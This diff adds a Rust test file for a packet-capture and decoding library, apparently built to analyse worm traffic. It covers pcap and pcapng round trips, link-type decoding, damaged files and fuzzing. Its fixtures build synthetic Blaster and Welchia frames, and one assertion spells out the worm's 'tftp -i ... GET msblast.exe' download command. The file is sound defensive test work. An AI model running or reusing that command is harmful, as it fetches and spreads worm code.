@@ -1,0 +1,369 @@
+//! Round trips through the writers and the streaming reader, every link
+//! type the decoder knows, and damaged files.
+
+use std::io::Cursor;
+use std::net::Ipv4Addr;
+
+use proptest::prelude::*;
+use wormscope_wire::build::{self, Host, IpOpts, TcpFlow, worm};
+use wormscope_wire::capture::{CaptureErrorKind, CaptureFormat, CaptureReader, LinkType};
+use wormscope_wire::decode::{Decoded, Transport, decode};
+use wormscope_wire::write::{OutputFormat, PcapNgWriter, PcapWriter, write_capture_file};
+
+fn h(s: &str) -> Host {
+    Host::new(s.parse().unwrap())
+}
+
+fn sample_frames() -> Vec<Vec<u8>> {
+    let mut f = TcpFlow::new(h("10.0.0.1"), 1025, h("10.0.0.2"), 135);
+    let mut v = f.handshake();
+    v.push(f.client_data(&worm::dcerpc_bind(1)));
+    v.push(build::udp_frame(
+        &h("10.0.0.2"),
+        &h("10.0.0.1"),
+        IpOpts::default(),
+        2000,
+        69,
+        &worm::tftp_rrq("msblast.exe"),
+    ));
+    v.push(worm::welchia_echo(&h("10.0.0.3"), &h("10.0.0.4"), 1, 1));
+    v
+}
+
+fn pcap_bytes(link: LinkType, frames: &[Vec<u8>]) -> Vec<u8> {
+    let mut w = PcapWriter::new(Vec::new(), link).unwrap();
+    for (i, f) in frames.iter().enumerate() {
+        w.write_frame(1_060_624_800_000_000 + i as i64 * 1500, f)
+            .unwrap();
+    }
+    w.finish().unwrap()
+}
+
+fn pcapng_bytes(link: LinkType, frames: &[Vec<u8>]) -> Vec<u8> {
+    let mut w = PcapNgWriter::new(Vec::new(), link).unwrap();
+    for (i, f) in frames.iter().enumerate() {
+        w.write_frame(1_060_624_800_000_000 + i as i64 * 1500, f)
+            .unwrap();
+    }
+    w.finish().unwrap()
+}
+
+type Frames = Vec<(u64, i64, Vec<u8>, LinkType)>;
+
+fn read_all(bytes: &[u8]) -> (Frames, Option<wormscope_wire::CaptureError>) {
+    let mut r = match CaptureReader::new(Cursor::new(bytes.to_vec())) {
+        Ok(r) => r,
+        Err(e) => return (vec![], Some(e)),
+    };
+    let mut out = vec![];
+    loop {
+        match r.next_frame() {
+            Ok(Some(f)) => out.push((f.number, f.ts_us, f.data.to_vec(), f.link_type)),
+            Ok(None) => return (out, None),
+            Err(e) => return (out, Some(e)),
+        }
+    }
+}
+
+#[test]
+fn pcap_and_pcapng_round_trip() {
+    let frames = sample_frames();
+    for (bytes, fmt) in [
+        (pcap_bytes(LinkType::ETHERNET, &frames), CaptureFormat::Pcap),
+        (
+            pcapng_bytes(LinkType::ETHERNET, &frames),
+            CaptureFormat::PcapNg,
+        ),
+    ] {
+        let r = CaptureReader::new(Cursor::new(bytes.clone())).unwrap();
+        assert_eq!(r.format(), fmt);
+        let (got, err) = read_all(&bytes);
+        assert!(err.is_none(), "{err:?}");
+        assert_eq!(got.len(), frames.len());
+        for (i, (n, ts, data, link)) in got.iter().enumerate() {
+            assert_eq!(*n, i as u64 + 1);
+            assert_eq!(*ts, 1_060_624_800_000_000 + i as i64 * 1500);
+            assert_eq!(data, &frames[i]);
+            assert_eq!(*link, LinkType::ETHERNET);
+        }
+    }
+}
+
+#[test]
+fn every_link_type_decodes_to_the_same_ipv4_packet() {
+    let eth = sample_frames()[3].clone();
+    let Decoded::Ipv4(want) = decode(LinkType::ETHERNET, &eth) else {
+        panic!()
+    };
+    let mut variants = vec![
+        (LinkType::ETHERNET, build::add_vlan(&eth, 0x8100, 42)),
+        (
+            LinkType::ETHERNET,
+            build::add_vlan(&build::add_vlan(&eth, 0x8100, 42), 0x88a8, 7),
+        ),
+    ];
+    for l in [
+        LinkType::RAW,
+        LinkType::DLT_RAW_12,
+        LinkType::DLT_RAW_14,
+        LinkType::LINUX_SLL,
+        LinkType::LINUX_SLL2,
+    ] {
+        variants.push((l, build::relink(&eth, l)));
+    }
+    for (link, frame) in variants {
+        // Through a file too, so the link type comes from the header.
+        let bytes = pcapng_bytes(link, std::slice::from_ref(&frame));
+        let (got, err) = read_all(&bytes);
+        assert!(err.is_none());
+        assert_eq!(got[0].3, link);
+        let Decoded::Ipv4(p) = decode(link, &got[0].2) else {
+            panic!("{link:?} did not decode")
+        };
+        assert_eq!(
+            (p.src, p.dst, p.total_len),
+            (want.src, want.dst, want.total_len)
+        );
+        assert_eq!(p.transport, want.transport, "{link:?}");
+    }
+}
+
+#[test]
+fn ipv6_non_ip_and_fragments() {
+    let v6 = etherparse::PacketBuilder::ethernet2([1; 6], [2; 6])
+        .ipv6([1; 16], [2; 16], 64)
+        .udp(1, 2);
+    let mut f = Vec::new();
+    v6.write(&mut f, b"x").unwrap();
+    assert!(matches!(decode(LinkType::ETHERNET, &f), Decoded::Ipv6));
+    assert!(matches!(decode(LinkType::RAW, &f[14..]), Decoded::Ipv6));
+    let mut arp = vec![0xff; 12];
+    arp.extend_from_slice(&[0x08, 0x06]);
+    arp.extend_from_slice(&[0, 1, 8, 0, 6, 4, 0, 1]);
+    arp.extend_from_slice(&[0; 20]);
+    assert!(matches!(decode(LinkType::ETHERNET, &arp), Decoded::NonIp));
+    assert!(matches!(
+        decode(LinkType(147), &arp),
+        Decoded::UnsupportedLink
+    ));
+
+    // A TCP SYN as a first fragment (MF set) keeps its header; a later
+    // fragment has none.
+    let syn = worm::probe_syn(&h("10.0.0.1"), &h("10.0.0.2"), 1234, 1);
+    let mut first = syn.clone();
+    first[14 + 6] |= 0x20; // MF
+    fix_ip_checksum(&mut first);
+    let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &first) else {
+        panic!()
+    };
+    assert!(p.fragmented);
+    assert!(matches!(p.transport, Transport::Tcp(t) if t.dst_port == 135));
+    let mut later = syn;
+    later[14 + 7] = 3; // offset 24 bytes
+    fix_ip_checksum(&mut later);
+    let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &later) else {
+        panic!()
+    };
+    assert!(p.fragmented);
+    assert_eq!(p.transport, Transport::Fragment);
+}
+
+fn fix_ip_checksum(f: &mut [u8]) {
+    f[24] = 0;
+    f[25] = 0;
+    let mut sum = 0u32;
+    for c in f[14..34].chunks(2) {
+        sum += u32::from(u16::from_be_bytes([c[0], c[1]]));
+    }
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    let c = !(sum as u16);
+    f[24..26].copy_from_slice(&c.to_be_bytes());
+}
+
+#[test]
+fn truncated_file_yields_good_frames_then_offset() {
+    let frames = sample_frames();
+    for bytes in [
+        pcap_bytes(LinkType::ETHERNET, &frames),
+        pcapng_bytes(LinkType::ETHERNET, &frames),
+    ] {
+        // Cut in the middle of the last record.
+        let cut = bytes.len() - 20;
+        let (got, err) = read_all(&bytes[..cut]);
+        let err = err.expect("must fail");
+        assert_eq!(err.kind(), CaptureErrorKind::Damaged);
+        assert_eq!(got.len(), frames.len() - 1);
+        // The offset is where the last record starts.
+        let last_len = frames.last().unwrap().len();
+        let record = if bytes[0] == 0x0a {
+            32 + last_len.div_ceil(4) * 4
+        } else {
+            16 + last_len
+        };
+        assert_eq!(err.offset(), Some((bytes.len() - record) as u64), "{err}");
+        assert!(err.to_string().contains("offset"));
+    }
+}
+
+#[test]
+fn corrupt_length_is_reported_with_offset() {
+    let frames = sample_frames();
+    let mut bytes = pcap_bytes(LinkType::ETHERNET, &frames);
+    // Second record's caplen: 24 (file header) + 16 + len(frame 0) + 8.
+    let at = 24 + 16 + frames[0].len() + 8;
+    bytes[at..at + 4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
+    let (got, err) = read_all(&bytes);
+    assert_eq!(got.len(), 1);
+    let err = err.unwrap();
+    assert_eq!(err.kind(), CaptureErrorKind::Damaged);
+    assert_eq!(err.offset(), Some((24 + 16 + frames[0].len()) as u64));
+}
+
+#[test]
+fn unknown_and_empty_are_unreadable() {
+    for bytes in [
+        &b""[..],
+        b"hello world, not a capture",
+        b"\x7fELF\x02\x01\x01",
+    ] {
+        let (_, err) = read_all(bytes);
+        assert_eq!(err.unwrap().kind(), CaptureErrorKind::Unreadable);
+    }
+    assert_eq!(
+        CaptureReader::open("/nonexistent/x.pcap")
+            .err()
+            .unwrap()
+            .kind(),
+        CaptureErrorKind::Unreadable
+    );
+}
+
+#[test]
+fn big_capture_streams_through_a_small_buffer() {
+    // 30 MB through a 1 MiB circular buffer; frames of every size.
+    let mut synth =
+        wormscope_wire::synth::SyntheticCapture::new(wormscope_wire::synth::SynthConfig {
+            target_bytes: 30 << 20,
+            ..Default::default()
+        });
+    let mut r = CaptureReader::new(&mut synth).unwrap();
+    let mut n = 0u64;
+    let mut last = 0;
+    while let Some(f) = r.next_frame().unwrap() {
+        assert!(f.ts_us >= last);
+        last = f.ts_us;
+        n += 1;
+    }
+    assert!(n > 20_000);
+    assert!(r.offset() >= 30 << 20);
+}
+
+#[test]
+fn atomic_file_write_round_trip() {
+    let dir = tempfile::tempdir().unwrap();
+    let frames = sample_frames();
+    for (name, fmt) in [
+        ("a.pcap", OutputFormat::Pcap),
+        ("a.pcapng", OutputFormat::PcapNg),
+    ] {
+        let p = dir.path().join(name);
+        write_capture_file(
+            &p,
+            fmt,
+            LinkType::ETHERNET,
+            frames
+                .iter()
+                .enumerate()
+                .map(|(i, f)| (i as i64, f.as_slice())),
+        )
+        .unwrap();
+        let mut r = CaptureReader::open(&p).unwrap();
+        let mut n = 0;
+        while r.next_frame().unwrap().is_some() {
+            n += 1;
+        }
+        assert_eq!(n, frames.len());
+    }
+    // Only the two files: no temporary left behind.
+    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 2);
+}
+
+#[test]
+fn worm_builders_decode() {
+    let a = h("10.0.0.1");
+    let f = worm::probe_syn(&a, &h("10.0.0.9"), 3000, 7);
+    let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
+        panic!()
+    };
+    assert_eq!(p.dst, Ipv4Addr::new(10, 0, 0, 9));
+    assert!(matches!(p.transport, Transport::Tcp(t) if t.is_syn_only() && t.dst_port == 135));
+    assert_eq!(
+        worm::tftp_command(a.ip, "msblast.exe"),
+        "tftp -i 10.0.0.1 GET msblast.exe\n"
+    );
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 2000, .. ProptestConfig::default() })]
+
+    #[test]
+    fn reader_and_decoder_never_panic_on_mutations(
+        pos in proptest::collection::vec((0usize..4000, any::<u8>()), 0..8),
+        cut in 0usize..4000,
+        ng in any::<bool>(),
+    ) {
+        let frames = sample_frames();
+        let mut bytes = if ng { pcapng_bytes(LinkType::ETHERNET, &frames) } else { pcap_bytes(LinkType::ETHERNET, &frames) };
+        for (p, b) in pos {
+            let n = bytes.len();
+            bytes[p % n] = b;
+        }
+        bytes.truncate(cut.max(1));
+        if let Ok(mut r) = CaptureReader::new(Cursor::new(bytes)) {
+            while let Ok(Some(f)) = r.next_frame() {
+                let _ = decode(f.link_type, f.data);
+            }
+        }
+    }
+
+    #[test]
+    fn decoder_never_panics(data in proptest::collection::vec(any::<u8>(), 0..200), link in 0u32..300) {
+        let _ = decode(LinkType(link), &data);
+        for l in [1, 12, 101, 113, 276] {
+            let _ = decode(LinkType(l), &data);
+        }
+    }
+}
+
+/// A reader that hands out at most 7 bytes per call, like a slow pipe.
+struct Trickle<R>(R);
+
+impl<R: std::io::Read> std::io::Read for Trickle<R> {
+    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
+        let n = buf.len().min(7);
+        self.0.read(&mut buf[..n])
+    }
+}
+
+#[test]
+fn short_reads_are_not_truncation() {
+    let mut synth =
+        wormscope_wire::synth::SyntheticCapture::new(wormscope_wire::synth::SynthConfig {
+            target_bytes: 300_000,
+            ..Default::default()
+        });
+    let mut all = Vec::new();
+    std::io::Read::read_to_end(&mut synth, &mut all).unwrap();
+    let mut r =
+        CaptureReader::with_limits(Trickle(Cursor::new(all.clone())), 4096, 1 << 16).unwrap();
+    let mut n = 0;
+    while r.next_frame().unwrap().is_some() {
+        n += 1;
+    }
+    let (want, err) = read_all(&all);
+    assert!(err.is_none());
+    assert_eq!(n, want.len());
+    assert_eq!(r.offset(), all.len() as u64);
+}
